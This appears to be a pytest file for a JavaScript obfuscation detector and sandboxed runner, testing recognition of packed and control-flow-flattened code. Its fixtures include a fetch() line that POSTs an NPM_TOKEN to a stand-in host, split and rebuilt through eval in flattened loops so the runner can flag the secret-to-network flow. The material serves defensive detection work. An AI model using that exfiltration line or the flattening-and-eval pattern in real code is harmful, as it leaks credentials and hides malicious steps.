"""JavaScript that a program made unreadable is recognised by its look."""

from __future__ import annotations

import pytest

from antivenom.analysis import obfuscators
from tests.analysis.scripts import run_js
from tests.builders import packed

_CODE = "console.log('hello from a packed program')"
_ACT = "fetch('https://d.invalid/', {method: 'POST', body: process.env.NPM_TOKEN})"


def styles(text: str) -> list[str]:
    return [s.args[1].removeprefix("style=") for _, s in obfuscators.observe(text.encode())]


@pytest.mark.parametrize(
    ("text", "style"),
    [
        (packed.signs(_CODE * 3), "signs-alone"),
        (packed.counted(_CODE), "counted-parts"),
        (packed.counted(_CODE, name="app"), "counted-parts"),
        ("var a = 1;\n" + packed.counted(_CODE), "counted-parts"),
        (packed.faces(_CODE), "faces"),
        ("var a='2|0|1'.split('|'),b=0;while(true){switch(a[b++]){case'0':f();continue}break}",
         "shuffled-steps"),
        ("const a='2|0|1'['split']('|');let b=0;for(;!![];){switch(a[b++]){case'0':f()}}",
         "shuffled-steps"),
    ],
)  # fmt: skip
def test_packs_are_recognised(text: str, style: str) -> None:
    assert styles(text) == [style]


@pytest.mark.parametrize(
    "text",
    [
        "$=~[];$={___:++$};",
        "const faces = ['(ﾟДﾟ)', '(ﾟΘﾟ)'];",
        "const order = '3|1|2'.split('|'); for (const one of order) { go(one) }",
        "while (1) { switch (context.prev = context.next) { case 0: return f(); } }",
        "while (i < text.length) { switch (text[i++]) { case '0': n++; } }",
    ],
)
def test_what_people_write_is_not(text: str) -> None:
    assert styles(text) == []


_HALVES = tuple(repr(part) for part in (_ACT[:30], _ACT[30:]))


@pytest.mark.parametrize(
    "text",
    [
        "const o='2|0|1|3'.split('|');let i=0,b,c;while(true){switch(o[i++]){case'2':b=A;continue;"
        "case'0':b+=B;continue;case'1':c=b;continue;case'3':eval(c);continue}break}",
        "let s=3,a;while(true){switch(s){case 3:a=A;s=7;break;case 7:a+=B;s=1;break;"
        "case 1:eval(a);s=9;break;case 9:return}}",
        "let s=3^5,a;while(!![]){switch(s^5){case 3:a=A;s=7^5;break;case 7:a+=B;s=1^5;break;"
        "case 1:eval(a);s=9^5;continue;default:process.exit()}}",
        "let s='x',a;l:while(1){switch(s){case'x':a=A;s='y';continue l;case'y':a+=B;s='z';"
        "continue l;case'z':eval(a);break l}}",
        "function f(){let s=3,a;for(;;){switch(s){case 3:a=A;s=7;break;case 7:a+=B;s=1;break;"
        "case 1:return a}}}eval(f())",
        "let s=0,a;while(s<3){if(s===0){a=A;s=1}else if(s===1){a+=B;s=2}else{eval(a);s=3}}",
    ],
)
def test_flattened_steps_are_taken_in_their_order(text: str) -> None:
    first, second = _HALVES
    seen = run_js(f"const A={first}, B={second};{text}")
    assert "secrets.env->net.send" in seen.flows()


def test_a_choice_that_never_changes_ends() -> None:
    seen = run_js("let s=1;while(true){switch(s){case 1:eval(atob('YQ=='))}}")
    assert seen.steps < 200
